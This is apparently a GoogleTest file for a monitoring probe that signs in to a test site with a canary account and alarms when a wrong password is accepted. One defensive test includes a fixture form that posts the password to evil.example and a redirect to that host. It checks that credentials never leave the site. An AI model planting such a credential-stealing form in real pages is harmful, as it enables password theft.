// SPDX-License-Identifier: Apache-2.0
#include "probes/catalog.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>

namespace bw {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr Time kNow{Millis{1'745'056'800'000}};
constexpr std::string_view kForm =
    "<title>Hartley sign in</title><h1>Welcome back</h1><form method=post "
    "action='/session?from=home'>"
    "<input type=hidden name=csrf value='a&amp;b='><input name=email type=email><input name=pw "
    "type=password>"
    "<input type=submit name=go value=Go></form>";
constexpr std::string_view kAccount = "<title>Hartley</title><h1>Your account</h1><p>Sign out</p>";
constexpr std::string_view kRefusal =
    "<title>Hartley sign in</title><p>Incorrect password for canary@hartley.example</p>"
    "<form method=post action=/session><input name=email><input name=pw type=password></form>";

Spec form_login() {
  Spec spec;
  spec.kind = "login";
  spec.url = "https://www.hartley.example/signin";
  spec.username = "canary@hartley.example";
  spec.password = "c0rrect horse";
  return spec;
}
Spec json_login_spec() {
  auto spec = form_login();
  spec.url = "https://api.hartley.example/v2/login";
  spec.method = "POST";
  spec.expect_json = {{"token_type", "Bearer"}};
  return spec;
}

HttpReply reply(int status, std::string_view body, std::vector<Header> headers = {}) {
  return {
      .status = status, .version = "1.1", .headers = std::move(headers), .body = std::string(body)};
}
bool is_right(const HttpAsk& ask) {
  return ask.body.contains("c0rrect");
}

// Walks a whole look against a server.
struct Walk {
  Finding finding;
  std::vector<HttpAsk> asks;
};
Walk walk(const Spec& spec, const std::function<HttpReply(const HttpAsk&)>& server) {
  Walk walked;
  Look look;
  Step step = kinds::login.begin(spec, look);
  for (int i = 0; i < 20 && std::holds_alternative<Ask>(step); ++i) {
    walked.asks.push_back(std::get<HttpAsk>(std::get<Ask>(step).what));
    Reply answer;
    answer.http = server(walked.asks.back());
    answer.phases.wait = Micros{50'000};
    step = kinds::login.read(spec, look, answer, kNow);
  }
  walked.finding = std::get<Finding>(step);
  for (const auto& [fact, value] : walked.finding.facts.all()) {
    EXPECT_THAT(value, Not(HasSubstr("c0rrect"))) << print(fact);
    EXPECT_THAT(value, Not(HasSubstr("bellwether-wrong"))) << print(fact);
  }
  EXPECT_THAT(walked.finding.note, Not(HasSubstr("c0rrect")));
  return walked;
}

TEST(Login, TheRightPasswordGetsInAndAWrongOneDoesNot) {
  const auto walked = walk(form_login(), [](const HttpAsk& ask) {
    if (ask.method == "GET" && ask.url.ends_with("/account")) return reply(200, kAccount);
    if (ask.method == "GET") {
      return reply(200, kForm, {{.name = "Set-Cookie", .value = "sid=first; HttpOnly"}});
    }
    if (is_right(ask)) {
      return reply(
          303,
          "",
          {{.name = "Location", .value = "/account"}, {.name = "Set-Cookie", .value = "auth=yes"}});
    }
    return reply(401, kRefusal);
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::ok) << walked.finding.note;
  ASSERT_EQ(walked.asks.size(), 5U);
  const auto& sent = walked.asks.at(1);
  EXPECT_EQ(sent.method, "POST");
  EXPECT_EQ(sent.url, "https://www.hartley.example/session?from=home");
  EXPECT_EQ(sent.body, "csrf=a%26b%3D&email=canary%40hartley.example&pw=c0rrect+horse");
  EXPECT_EQ(find_header(sent.headers, "content-type"), "application/x-www-form-urlencoded");
  EXPECT_EQ(find_header(sent.headers, "cookie"), "sid=first");
  EXPECT_EQ(find_header(walked.asks.at(2).headers, "cookie"), "sid=first; auth=yes");
  EXPECT_EQ(find_header(walked.asks.at(3).headers, "cookie"), "") << "a new visitor";
  EXPECT_THAT(walked.asks.at(4).body, HasSubstr("pw=bellwether-wrong-"));
  EXPECT_EQ(walked.finding.facts.get(Fact::fields), "password");
  EXPECT_EQ(walked.finding.facts.get(Fact::title), "Hartley sign in");
}

TEST(Login, ARefusedRightPasswordIsRejected) {
  const auto walked = walk(form_login(), [](const HttpAsk& ask) {
    return ask.method == "GET" ? reply(200, kForm)
                               : reply(200, std::string(kRefusal) + "you typed c0rrect horse");
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_rejected);
  EXPECT_EQ(walked.finding.facts.get(Fact::login_step), "right-password");
  EXPECT_THAT(walked.finding.note, HasSubstr("the right password was refused: 200 OK"));
  EXPECT_THAT(walked.finding.note, Not(HasSubstr("canary@")));
  EXPECT_EQ(walked.asks.size(), 2U) << "a refused look tries no wrong password";
}

TEST(Login, AnAcceptedWrongPasswordIsTheAlarm) {
  const auto walked = walk(form_login(), [](const HttpAsk& ask) {
    return ask.method == "GET" ? reply(200, kForm) : reply(200, kAccount);
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_accepts_wrong);
  EXPECT_EQ(walked.finding.facts.get(Fact::login_step), "wrong-password");
}

TEST(Login, JsonLoginsWorkTheSameWay) {
  auto spec = json_login_spec();
  spec.password = "c0rrect\"\\\n";
  auto walked = walk(spec, [](const HttpAsk& ask) {
    return is_right(ask) ? reply(200, R"({"token_type":"Bearer","expires_in":900})")
                         : reply(401, R"({"error":"invalid_grant"})");
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::ok) << walked.finding.note;
  ASSERT_EQ(walked.asks.size(), 2U);
  EXPECT_EQ(walked.asks.at(0).body,
            R"({"username":"canary@hartley.example","password":"c0rrect\"\\\u000a"})");
  walked = walk(spec, [](const HttpAsk&) { return reply(401, R"({"error":"invalid_grant"})"); });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_rejected);
  walked = walk(spec, [](const HttpAsk&) { return reply(200, R"({"token_type":"Bearer"})"); });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_accepts_wrong);
  walked = walk(spec, [](const HttpAsk&) { return reply(200, R"({"error":"captcha_required"})"); });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_challenged);
}

TEST(Login, AChallengeForEveryoneIsNoWrongPassword) {
  const auto walked = walk(form_login(), [](const HttpAsk& ask) {
    return ask.method == "GET" ? reply(200, kForm)
                               : reply(200,
                                       "<h1>One more step</h1><p>Enter the verification code we "
                                       "sent to your phone.</p>");
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::login_challenged);
  const auto wall = walk(form_login(), [](const HttpAsk&) {
    return reply(
        200,
        "<title>Hartley</title><p>Please confirm that you are human.</p><div class=captcha></div>");
  });
  EXPECT_EQ(wall.finding.outcome, Outcome::login_challenged);
  const auto edge = walk(form_login(), [](const HttpAsk&) {
    return reply(403, "", {{.name = "cf-mitigated", .value = "challenge"}});
  });
  EXPECT_EQ(edge.finding.outcome, Outcome::blocked);
}

TEST(Login, NeverHandsThePasswordToAStranger) {
  const auto with_form = [](std::string_view form) {
    return [form](const HttpAsk& ask) {
      return ask.method == "GET" ? reply(200, form) : reply(200, "taken");
    };
  };
  auto spec = form_login();
  constexpr std::string_view kStolen =
      "<title>Hartley</title><form method=post action=https://evil.example/take><input name=pw "
      "type=password></form>";
  auto walked = walk(spec, with_form(kStolen));
  EXPECT_EQ(walked.finding.outcome, Outcome::content_foreign);
  EXPECT_EQ(walked.asks.size(), 1U);
  EXPECT_THAT(walked.finding.note, HasSubstr("https://evil.example"));
  spec.credential_origins = {"https://evil.example"};
  EXPECT_GT(walk(spec, with_form(kStolen)).asks.size(), 1U);
  walked = walk(
      form_login(),
      with_form(
          "<title>Hartley</title><form action=/s method=get><input name=pw type=password></form>"));
  EXPECT_EQ(walked.finding.outcome, Outcome::content_missing);
  EXPECT_EQ(walked.asks.size(), 1U);
  // A redirect that would repeat the request elsewhere takes no body along.
  walked = walk(form_login(), [](const HttpAsk& ask) {
    if (ask.url.contains("evil")) return reply(200, "got it");
    return ask.method == "GET"
               ? reply(200, kForm)
               : reply(307, "", {{.name = "Location", .value = "https://evil.example/"}});
  });
  for (const auto& ask : walked.asks) {
    EXPECT_TRUE(!ask.url.contains("evil") || ask.body.empty());
  }
}

TEST(Login, OtherTroubleKeepsItsOwnName) {
  auto walked = walk(form_login(), [](const HttpAsk& ask) {
    return ask.method == "GET" ? reply(200, kForm) : reply(503, R"({"error":"login_unavailable"})");
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::status_server);
  walked = walk(form_login(), [](const HttpAsk&) {
    return reply(200, "<p>Signing in to your rewards account is not possible at the moment.</p>");
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::function_withdrawn);
  walked = walk(form_login(),
                [](const HttpAsk&) { return reply(200, "<title>Hartley</title><p>Hello</p>"); });
  EXPECT_EQ(walked.finding.outcome, Outcome::content_missing);
  Reply dead;
  dead.failure = Outcome::reply_timeout;
  dead.detail = "no answer";
  Look look;
  (void)kinds::login.begin(form_login(), look);
  const auto finding = std::get<Finding>(kinds::login.read(form_login(), look, dead, kNow));
  EXPECT_EQ(finding.outcome, Outcome::reply_timeout);
  EXPECT_EQ(finding.facts.get(Fact::login_step), "right-password");
}

TEST(Login, SlownessCountsUntilTheRightPasswordIsIn) {
  auto spec = json_login_spec();
  spec.slow = Millis{60};
  const auto server = [](const HttpAsk& ask) {
    return is_right(ask) ? reply(200, R"({"token_type":"Bearer"})") : reply(401, "{}");
  };
  EXPECT_EQ(walk(spec, server).finding.outcome, Outcome::ok);
  spec.slow = Millis{40};
  EXPECT_EQ(walk(spec, server).finding.outcome, Outcome::degraded);
}

TEST(Login, WithoutAnAccountItOnlyLooks) {
  auto spec = form_login();
  spec.username.clear();
  spec.expect_text = "Welcome back";
  auto walked = walk(spec, [](const HttpAsk&) { return reply(200, kForm); });
  EXPECT_EQ(walked.finding.outcome, Outcome::ok);
  EXPECT_EQ(walked.asks.size(), 1U);
  EXPECT_EQ(walked.finding.facts.get(Fact::fields), "password");
  EXPECT_EQ(walked.finding.facts.get(Fact::form_actions), "https://www.hartley.example/session");
  spec.expect_text.clear();
  spec.expect_json = {{"token_type", "Bearer"}};
  walked = walk(spec, [](const HttpAsk&) { return reply(200, R"({"token_type":"none"})"); });
  EXPECT_EQ(walked.finding.outcome, Outcome::json_mismatch);
}

}  // namespace
}  // namespace bw
